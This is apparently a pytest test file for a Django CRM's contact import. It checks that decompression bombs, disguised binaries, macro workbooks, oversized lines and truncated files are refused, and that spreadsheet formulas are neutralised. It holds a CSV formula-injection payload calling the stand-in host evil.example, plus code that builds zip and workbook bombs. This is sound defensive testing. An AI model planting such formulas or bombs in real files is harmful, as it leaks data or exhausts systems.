"""Files that mean harm, or are broken: a sentence on the page and nothing stored, or a whole report."""

import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from core.models import User
from crm.models import Contact, FileImport, ImportBatch
from tests.core.tabular.test_workbooks import HEADER, repacked, workbook
from tests.crm.files import counts, import_file
from tests.installation import ROOT, Installation, migrated_database

LogIn = Callable[..., Client]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ada")'


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(f"{name}.csv", content)
    return out.getvalue()


def send(client: Client, name: str, content: bytes) -> Any:
    file = SimpleUploadedFile(name, content)
    return client.post(reverse("import_list"), {"file": file, "object_type": "crm.contact"})


REFUSED = {
    "bomb in a workbook": (
        "people.xlsx",
        lambda: repacked(workbook([HEADER]), xl__worksheets__sheet1_dot_xml=b" " * 60_000_000),
        "unpacks to more than we open",
    ),
    "bomb in an archive": (
        "all.zip",
        lambda: zipped(contacts=b"a" * 210_000_000),
        "unpacks to more",
    ),
    "bomb in a bomb": (
        "all.zip",
        lambda: zipped(contacts=b"Name\nAda\n").replace(b"contacts.csv", b"contacts.zip"),
        "archive in the archive",
    ),
    "ten thousand columns": (
        "people.csv",
        (",".join(f"c{n}" for n in range(10_000)) + "\n" + "," * 9_999).encode,
        "more than",
    ),
    "one long line": ("people.csv", lambda: b"Name,E-mail\n" + b"x" * 30_000_000, "longer than"),
    "one long line of quotes": (
        "people.csv",
        lambda: b"Name,E-mail\n" + b'"' * 30_000_000,
        "longer than",
    ),
    "a picture called a table": ("people.csv", lambda: b"\x89PNG\r\n\x1a\n\0\0\0", "not a text"),
    "a program called a workbook": ("people.xlsx", lambda: b"MZ\x90\0\x03\0\0\0", "not a text"),
    "macros": (
        "people.xlsm",
        lambda: repacked(workbook([HEADER, ["Ada", "", 1]]), xl__vbaProject_dot_bin=b"macro"),
        "macros",
    ),
    "half a workbook": (
        "people.xlsx",
        lambda: workbook([HEADER, ["Ada", "", 1]])[:3_000],
        "Save",
    ),
    "cut off in a quoted cell": (
        "people.csv",
        lambda: b'Name,E-mail\nAda,ada@example.org\n"Ben, the\n' + b"y,z\n" * 260_000,
        "unclosed quotation mark",
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", REFUSED)
def test_hostile_file_is_refused_with_a_sentence(
    case: str, administrator: User, log_in: LogIn
) -> None:
    name, made, sentence = REFUSED[case]
    answer = send(log_in(administrator), name, made())
    assert answer.status_code == 422
    [[error]] = answer.context["form"].errors.values()
    assert sentence in error
    assert not FileImport.objects.exists()
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_workbook_called_a_text_is_read_as_what_it_is(administrator: User, log_in: LogIn) -> None:
    book = workbook([["Name", "E-mail"], ["Ada", "ada@example.org"]])
    assert send(log_in(administrator), "people.csv", book).status_code == 302
    assert FileImport.objects.get().columns == ["Name", "E-mail"]


@pytest.mark.django_db
def test_file_cut_off_in_a_row_is_reported_whole(administrator: User) -> None:
    done = import_file(
        "Name,E-mail,Phone\nAda,ada@example.org,+44 20 7946 0958\nBen,ben@exam",
        administrator,
        object_type="crm.contact",
    )
    assert counts(done) == (1, 0, 1)
    assert [row.row_number for row in done.refused_rows.all()] == [2]


@pytest.mark.django_db
def test_formulas_come_in_as_text_and_go_out_as_text(administrator: User, log_in: LogIn) -> None:
    import_file(
        [["Name", "E-mail"], [FORMULA, "ada@example.org"]], administrator, object_type="crm.contact"
    )
    assert Contact.objects.get().name == FORMULA
    client = log_in(administrator)
    assert "=HYPERLINK(&quot;" in client.get(reverse("contact_list")).content.decode()
    asked = {"all": "1", "form": "csv", "address": "columns=email"}
    answer: Any = client.post(reverse("bulk_export", args=["crm.contact"]), asked)
    exported = b"".join(answer.streaming_content)
    assert b"'=HYPERLINK" in exported
    again = import_file(exported, administrator, object_type="crm.contact")
    assert counts(again) == (0, 0, 0)
    assert Contact.objects.get().name == FORMULA


# Larger than any text of a cell, and than what a process of ours may take.
LONG_LINE, MOST_MEGABYTES = 1_000_000_000, 250
COMMAND = """
import resource, sys
from django.core.management import execute_from_command_line
try:
    execute_from_command_line(["manage.py", "import_records", "contacts", sys.argv[1]])
finally:
    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.acceptance
@pytest.mark.embedded
def test_line_of_a_gigabyte_is_refused_in_little_memory(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    with path.open("wb") as file:
        file.write(b"Name,E-mail\n")
        for _piece in range(LONG_LINE // 1_000_000):
            file.write(b"x" * 1_000_000)
    with migrated_database(tmp_path) as database:
        installation = Installation(tmp_path, database, "")
        installation.call("-c", MAKE_ADMINISTRATOR)
        done = subprocess.run(
            [sys.executable, "-c", COMMAND, str(path)],
            env=installation.environment,
            cwd=ROOT,
            check=False,
            capture_output=True,
            text=True,
        )
    print(
        f"{path.stat().st_size:,} bytes in one line: {done.stdout.strip()} MB, {done.stderr.strip()}"
    )
    assert done.returncode == 1
    assert "longer than a million characters" in done.stderr
    assert int(done.stdout) < MOST_MEGABYTES


MAKE_ADMINISTRATOR = """
import django
django.setup()
from core.models import Role, User
user = User.objects.create_user("ada@example.com", name="Ada")
user.roles.add(Role.objects.get(key="administrator"))
"""
